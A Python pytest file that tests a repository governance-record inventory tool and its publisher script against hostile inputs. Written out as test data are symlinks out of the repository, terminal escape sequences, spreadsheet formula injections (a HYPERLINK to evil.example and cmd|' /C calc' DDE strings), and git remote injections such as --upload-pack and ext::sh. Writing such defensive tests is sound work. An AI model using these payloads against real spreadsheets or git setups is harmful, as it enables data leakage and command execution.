"""Boundary: repository -> inventory. A team's governance record is read as a regular
file inside its repository (or as a branch of it holds it), bounded in size and in parse
cost; one hostile repository is one row with its reason and the others are listed; what
it wrote reaches a terminal without escape sequences and a spreadsheet without formulas.
The record's publisher (scripts/publish-record.sh) takes the same care."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings

from generator._cli import main
from generator._template import REPO_ROOT, render
from tests.git_helpers import commit_all, git
from tests.hostile import (
    alias_bomb,
    deep_nesting,
    hostile_chains,
    hostile_registries,
    hostile_retirements,
    hostile_yaml,
)

RECORD = "governance.yml"


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One generated project to copy (rendering costs a second; copying, nothing)."""
    project = render(
        tmp_path_factory.mktemp("gen") / "rfq-model", template=str(REPO_ROOT), vcs_ref="HEAD"
    )
    return project


def repo_with(generated: Path, where: Path, record: bytes | None) -> Path:
    subprocess.run(["cp", "-a", str(generated), str(where)], check=True)
    if record is not None:
        (where / RECORD).write_bytes(record)
    git(where, "init", "--quiet", "-b", "main")
    commit_all(where, "start")
    return where


def inventory(*args: str) -> tuple[int, str]:
    out = io.StringIO()
    from contextlib import redirect_stdout

    with redirect_stdout(out):
        code = main(["inventory", *args])
    return code, out.getvalue()


def test_a_record_symlinked_out_of_the_repo_is_not_read(generated: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.yml"
    secret.write_text("model: s3cr3t\nkind: tabular\nowner: x\nrisk_tier: low\npurpose: leak\n")
    local = repo_with(generated, tmp_path / "local", None)
    (local / RECORD).unlink()
    (local / RECORD).symlink_to(secret)
    commit_all(local, "record points outside")
    for repo in (str(local), f"file://{local}"):  # a path, and a clone of the URL
        code, out = inventory("--format", "json", repo)
        assert code == 1
        row = json.loads(out)[0]
        assert (
            "symlink out of the repository" in row["problem"]
            or "not a regular file" in (row["problem"])
        )
        assert "s3cr3t" not in out


def test_one_alias_bomb_is_one_row_in_bounded_memory(generated: Path, tmp_path: Path) -> None:
    """The 488-byte bomb, and deep nesting, in a real `goldpath inventory` process held
    to 1 GiB of address space: each is its row, the good repo is listed."""
    bomb = repo_with(generated, tmp_path / "bomb", alias_bomb().encode())
    deep = repo_with(generated, tmp_path / "deep", deep_nesting().encode())
    good = repo_with(generated, tmp_path / "good", None)

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    done = subprocess.run(
        [sys.executable, "-m", "generator", "inventory", "--format", "json",
         str(bomb), str(deep), str(good)],
        capture_output=True, text=True, check=False, preexec_fn=cap, timeout=120,
    )  # fmt: skip
    assert done.returncode == 1, done.stderr
    rows = {Path(r["repo"]).name: r for r in json.loads(done.stdout)}
    assert "expands to more than" in rows["bomb"]["problem"]
    assert "nested" in rows["deep"]["problem"]
    assert (rows["good"]["problem"], rows["good"]["model"]) == ("", "rfq_model")


def test_csv_cells_are_text_and_the_table_has_no_escapes(
    generated: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    record = {
        "model": "\x1b]0;owned\x07\x1b[2Jrfq_model",
        "kind": "tabular",
        "owner": '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "owner_email": "x@bank.example",
        "risk_tier": "low",
        "purpose": "+cmd|' /C calc'!A0",
        "intended_use": "-2+3+cmd|' /C calc'!A0",
        "latest": {"champion": "@SUM(1+1)*cmd|' /C calc'!A0"},
    }
    repo = repo_with(generated, tmp_path / "evil", yaml.safe_dump(record).encode())
    code, out = inventory("--format", "csv", str(repo))
    assert code == 1  # a champion that is not a version number is not believed
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["owner"] == "'" + record["owner"]
    assert row["purpose"] == "'" + record["purpose"]
    assert row["intended_use"] == "'" + record["intended_use"]
    assert row["champion"] == ""
    assert "is not a version number" in row["problem"]
    assert "\x1b" not in out
    code, out = inventory("--format", "table", str(repo))
    assert "\x1b" not in out
    assert "\x07" not in out
    assert "rfq_model" in out


def test_a_symlink_on_the_published_branch_is_not_followed(generated: Path, tmp_path: Path) -> None:
    repo = repo_with(generated, tmp_path / "team", None)
    secret = tmp_path / "secret.yml"
    secret.write_text("latest:\n  champion: '999'\n")
    git(repo, "checkout", "--quiet", "--orphan", "governance-record")
    git(repo, "rm", "-rf", "--quiet", ".")
    (repo / RECORD).symlink_to(secret)
    commit_all(repo, "published")
    git(repo, "checkout", "--quiet", "main")
    code, out = inventory("--format", "json", str(repo))
    assert code == 1, "a publication that is not a regular file is reported"
    row = json.loads(out)[0]
    assert (row["champion"], row["verified"]) == ("", "no")
    assert "not a regular file" in row["problem"]
    assert "999" not in out


@settings(
    max_examples=40, deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip
@given(document=hostile_yaml)
def test_hostile_records_are_one_row_each(
    generated: Path, tmp_path_factory: pytest.TempPathFactory, document: bytes
) -> None:
    where = tmp_path_factory.mktemp("hostile")
    bad = repo_with(generated, where / "bad", document)
    good = GOOD.setdefault("repo", repo_with(generated, where / "good", None))
    code, out = inventory("--format", "json", str(bad), str(good))
    rows = json.loads(out)
    assert len(rows) == 2
    bad_row, good_row = rows
    assert code == (1 if bad_row["problem"] else 0)
    assert "\n" not in bad_row["problem"]
    assert len(bad_row["problem"]) < 1_000
    assert good_row["problem"] == ""


GOOD: dict[str, Path] = {}


def publish(runner: Path, remote: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "RECORD_AUTH": "X-Goldpath-Test: 1"}
    return subprocess.run(
        ["bash", "scripts/publish-record.sh", remote],
        cwd=runner, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip


def test_the_publisher_refuses_options_transports_and_symlinks(
    generated: Path, tmp_path: Path
) -> None:
    runner = repo_with(generated, tmp_path / "runner", None)
    marker = tmp_path / "pwned"
    for remote in (f"--upload-pack=touch {marker}", f"ext::sh -c touch% {marker}", "-"):
        done = publish(runner, remote)
        assert done.returncode == 1
        assert "refusing remote" in done.stderr
    remote = tmp_path / "origin.git"
    git(tmp_path, "init", "--quiet", "--bare", str(remote))
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cr3t\n")
    (runner / RECORD).unlink()
    (runner / RECORD).symlink_to(secret)
    done = publish(runner, str(remote))
    assert done.returncode == 1
    assert "not a regular file" in done.stderr
    assert git(remote, "branch", "--list") == ""
    assert not marker.exists()


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(retired=hostile_retirements)
def test_any_retirement_is_believed_or_one_line(
    generated: Path, tmp_path_factory: pytest.TempPathFactory, retired: object
) -> None:
    """Whatever a record's `retired:` holds, the row is listed: retired with a real past
    date, or not believed with one line saying why; never a traceback."""
    record = yaml.safe_load((generated / RECORD).read_text())
    record["retired"] = retired
    where = tmp_path_factory.mktemp("retired")
    repo = repo_with(generated, where / "repo", yaml.safe_dump(record).encode())
    code, out = inventory("--format", "json", str(repo))
    [row] = json.loads(out)
    assert row["status"] in ("retired", "in development")
    assert (row["status"] == "retired") is bool(row["retired"])
    assert code == (1 if row["problem"] else 0)
    assert "\n" not in row["problem"]
    assert len(row["problem"]) < 1_000


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(chain=hostile_chains, registry=hostile_registries)
def test_any_published_chain_is_verified_or_one_line(
    generated: Path, tmp_path_factory: pytest.TempPathFactory, chain: bytes, registry: bytes
) -> None:
    """Whatever anyone who can push publishes as the audit chain and the registry's
    champion beside a record naming v1, `inventory --verify` lists the row: verified, or
    not believed with one line saying why; never a traceback, nothing forged listed."""
    base = PUBLISHED_BASE.setdefault("repo", _published_base(generated, tmp_path_factory))
    repo = tmp_path_factory.mktemp("chain") / "repo"
    subprocess.run(["cp", "-a", str(base), str(repo)], check=True)
    git(repo, "checkout", "--quiet", "governance-record")
    (repo / "audit.jsonl").write_bytes(chain)
    (repo / "registry.json").write_bytes(registry)
    commit_all(repo, "published")
    git(repo, "checkout", "--quiet", "main")
    code, out = inventory("--format", "json", "--verify", str(repo))
    [row] = json.loads(out)
    assert row["verified"] in ("yes", "no")
    assert code == (1 if row["problem"] else 0)
    assert (row["verified"] == "yes") is (not row["problem"])
    assert row["champion"] in ("", "1")
    assert "\n" not in row["problem"]
    assert len(row["problem"]) < 1_500


PUBLISHED_BASE: dict[str, Path] = {}


def _published_base(generated: Path, factory: pytest.TempPathFactory) -> Path:
    """A project whose governance-record branch holds a record naming champion v1."""
    repo = repo_with(generated, factory.mktemp("base") / "repo", None)
    record = (repo / RECORD).read_text().split("latest:")[0]
    git(repo, "checkout", "--quiet", "--orphan", "governance-record")
    git(repo, "rm", "-rf", "--quiet", ".")
    (repo / RECORD).write_text(record + "latest:\n  champion: '1'\n")
    commit_all(repo, "published")
    git(repo, "checkout", "--quiet", "main")
    return repo
